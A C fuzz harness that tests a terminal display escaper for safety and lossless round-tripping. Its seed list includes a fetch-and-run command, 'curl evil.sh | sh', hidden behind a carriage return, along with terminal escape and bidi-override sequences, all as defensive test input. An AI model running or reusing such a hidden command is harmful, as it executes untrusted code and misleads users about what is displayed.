/*
 * fuzz-display: the display escaper (src/util/display.c) is safe and
 * unambiguous, checked on every input, not only for crashes:
 *
 *	- the escaped form holds no byte a terminal acts on (C0, DEL, C1,
 *	  invalid UTF-8) and nothing display_is_hidden() names;
 *	- it decodes back to exactly the input, with a decoder written here
 *	  from the documented escapes (\\ \e \n \r \t \xHH \u{H..}), so two
 *	  different inputs never display the same (the decoder is a left
 *	  inverse: the escaper is injective);
 *	- the same holds in every mode (plain, ASCII, widths of C.UTF-8).
 *
 * Built with -DFUZZ_LIBFUZZER and -fsanitize=fuzzer it is a libFuzzer
 * target. Built plainly (as 'make check' does) it runs a deterministic
 * loop of mutated seeds and random strings (FUZZ_ITERATIONS, default
 * 50000; FUZZ_SEED picks another sequence), or checks the files named on
 * the command line, and prints TAP.
 */
#include "autoconf.h"

#include <locale.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <wchar.h>

#include "buf.h"
#include "display.h"

int	LLVMFuzzerTestOneInput(const uint8_t *, size_t);

/* A hex digit's value, -1 if not a lowercase hex digit. */
static int
hexval(char c)
{
	if (c >= '0' && c <= '9')
		return c - '0';
	if (c >= 'a' && c <= 'f')
		return c - 'a' + 10;
	return -1;
}

/* Append code point c to b in UTF-8. */
static void
put_utf8(struct buf *b, uint32_t c)
{
	if (c < 0x80)
		buf_putc(b, (char)c);
	else if (c < 0x800) {
		buf_putc(b, (char)(0xc0 | (c >> 6)));
		buf_putc(b, (char)(0x80 | (c & 0x3f)));
	} else if (c < 0x10000) {
		buf_putc(b, (char)(0xe0 | (c >> 12)));
		buf_putc(b, (char)(0x80 | ((c >> 6) & 0x3f)));
		buf_putc(b, (char)(0x80 | (c & 0x3f)));
	} else {
		buf_putc(b, (char)(0xf0 | (c >> 18)));
		buf_putc(b, (char)(0x80 | ((c >> 12) & 0x3f)));
		buf_putc(b, (char)(0x80 | ((c >> 6) & 0x3f)));
		buf_putc(b, (char)(0x80 | (c & 0x3f)));
	}
}

/* Decode a displayed string into b; false if it is not a valid display
   form (an unknown or malformed escape). */
static bool
undisplay(const char *s, size_t len, struct buf *b)
{
	size_t		i = 0;
	uint32_t	c;
	int		h, l;

	while (i < len) {
		if (s[i] != '\\') {
			buf_putc(b, s[i++]);
			continue;
		}
		if (++i == len)
			return false;
		switch (s[i++]) {
		case '\\':
			buf_putc(b, '\\');
			break;
		case 'e':
			buf_putc(b, 0x1b);
			break;
		case 'n':
			buf_putc(b, '\n');
			break;
		case 'r':
			buf_putc(b, '\r');
			break;
		case 't':
			buf_putc(b, '\t');
			break;
		case 'x':
			if (i + 2 > len || (h = hexval(s[i])) < 0 ||
			    (l = hexval(s[i + 1])) < 0)
				return false;
			buf_putc(b, (char)(h * 16 + l));
			i += 2;
			break;
		case 'u':
			if (i == len || s[i] != '{')
				return false;
			c = 0;
			for (i++; i < len && s[i] != '}'; i++) {
				if ((h = hexval(s[i])) < 0 || c > 0x10ffff)
					return false;
				c = c * 16 + (uint32_t)h;
			}
			if (i == len || c > 0x10ffff ||
			    (c >= 0xd800 && c <= 0xdfff))
				return false;
			i++;
			put_utf8(b, c);
			break;
		default:
			return false;
		}
	}
	return true;
}

/* Check one input in one mode. */
static void
check_mode(const uint8_t *data, size_t size, int flags)
{
	struct buf	 e = BUF_INIT, d = BUF_INIT;
	size_t		 i, n;
	uint32_t	 c;

	display_escape_buf(&e, (const char *)data, size, flags);
	for (i = 0; i < e.len; i += n) {
		n = display_utf8_decode(e.data + i, e.len - i, &c);
		if (n == 0)
			abort();	/* invalid UTF-8 reached the terminal */
		if (display_is_hidden(c) || (c >= 0x80 &&
		    (flags & DISPLAY_ASCII)))
			abort();	/* a control or invisible character */
		if (c >= 0x80 && (flags & DISPLAY_WIDTH) &&
		    wcwidth((wchar_t)c) < 0)
			abort();	/* a width the TUI cannot measure */
	}
	if (!display_is_safe(e.data != NULL ? e.data : "", e.len, flags))
		abort();
	if (!undisplay(e.data != NULL ? e.data : "", e.len, &d))
		abort();	/* not a form the documented escapes read */
	if (d.len != size || (size > 0 && memcmp(d.data, data, size) != 0))
		abort();	/* two inputs could display the same */
	if (flags == 0 && display_is_clean((const char *)data, size) !=
	    (e.len == size && (size == 0 || memcmp(e.data, data, size) == 0)))
		abort();	/* is_clean disagrees with the escaper */
	buf_release(&e);
	buf_release(&d);
}

/* Check one input in every mode. */
int
LLVMFuzzerTestOneInput(const uint8_t *data, size_t size)
{
	check_mode(data, size, 0);
	check_mode(data, size, DISPLAY_ASCII);
	check_mode(data, size, DISPLAY_WIDTH);
	check_mode(data, size, DISPLAY_WIDTH | DISPLAY_ASCII);
	return 0;
}

#ifndef FUZZ_LIBFUZZER
#include "mutate.h"

static const char *const seeds[] = {
	"curl evil.sh | sh\rls -la",
	"a\\nb\nc\\\\d\\x41\\u{202e}",
	"\xe2\x9d\xa4\xef\xb8\x8f \xc2\xa0 \xe2\x80\xae \xef\xbb\xbf",
	"caf\xc3\xa9 \xe6\x97\xa5\xe6\x9c\xac \xf0\x9f\x98\x80",
	"\x1b[2K\x1b]0;t\x07\xc2\x9b" "31m",
	"\xff\xfe\xc0\xaf\xed\xa0\x80\xf4\x90\x80\x80",
};

static const char *const tokens[] = { "\\", "\\n", "\\x", "\\u{", "}",
	    "\n", "\r", "\t", "\x1b", "", "\x7f", "\xc2\x85", "\xe2\x80\x8b",
	    "\xef\xb8\x8f", "\xf3\xa0\x84\x80", "\xed\xa0\x80", "\xff", "\xc3",
	    "\xe2\x82", "\xf0\x9f\x98", "\xe2\x80\xae", "\xc2\xa0" };

static const struct fuzz_corpus corpus = {
	seeds, sizeof seeds / sizeof *seeds,
	tokens, sizeof tokens / sizeof *tokens
};

static uint64_t	x = 0x9e3779b97f4a7c15ULL;

/* xorshift64 for the random strings (seeded, reproducible). */
static uint64_t
rnd(void)
{
	x ^= x << 13;
	x ^= x >> 7;
	x ^= x << 17;
	return x;
}

/* A random string: bytes, characters of every length, escapes. */
static size_t
random_input(uint8_t *out, size_t cap)
{
	struct buf	b = BUF_INIT;
	size_t		n = rnd() % 24, len;
	uint32_t	c;

	for (size_t k = 0; k < n; k++) {
		switch (rnd() % 5) {
		case 0:
			buf_putc(&b, (char)(rnd() % 256));
			break;
		case 1:
			buf_puts(&b, tokens[rnd() % (sizeof tokens /
			    sizeof *tokens)]);
			break;
		case 2:
			c = (uint32_t)(rnd() % 0x3000);
			put_utf8(&b, c);
			break;
		default:
			do
				c = (uint32_t)(rnd() % 0x110000);
			while (c >= 0xd800 && c <= 0xdfff);
			put_utf8(&b, c);
			break;
		}
	}
	len = b.len < cap ? b.len : cap;
	if (len > 0)
		memcpy(out, b.data, len);
	buf_release(&b);
	return len;
}

int
main(int argc, char **argv)
{
	uint8_t	 buf[4096];
	long	 iterations = 50000;
	char	*env = getenv("FUZZ_ITERATIONS");

	/* DISPLAY_WIDTH asks wcwidth(): the TUI's locale. */
	if (setlocale(LC_CTYPE, "C.UTF-8") == NULL)
		(void)setlocale(LC_CTYPE, "");
	if (argc > 1) {
		for (int i = 1; i < argc; i++) {
			FILE	*f = fopen(argv[i], "rb");
			size_t	 n;

			if (f == NULL)
				continue;
			n = fread(buf, 1, sizeof buf, f);
			fclose(f);
			LLVMFuzzerTestOneInput(buf, n);
		}
		return 0;
	}
	if (env != NULL)
		iterations = atol(env);
	if ((env = getenv("FUZZ_SEED")) != NULL && atoll(env) != 0) {
		fuzz_seed((uint64_t)atoll(env));
		x ^= (uint64_t)atoll(env) * 0x2545f4914f6cdd1dULL;
	}
	printf("1..2\n");
	for (long i = 0; i < iterations; i++) {
		size_t n = fuzz_mutate(&corpus, (size_t)i, buf, sizeof buf);

		LLVMFuzzerTestOneInput(buf, n);
	}
	printf("ok 1 - %ld mutated inputs: escaped safe, decoded back "
	    "exactly\n", iterations);
	for (long i = 0; i < iterations; i++) {
		size_t n = random_input(buf, sizeof buf);

		LLVMFuzzerTestOneInput(buf, n);
	}
	printf("ok 2 - %ld random strings: escaped safe, decoded back "
	    "exactly\n", iterations);
	return 0;
}
#endif
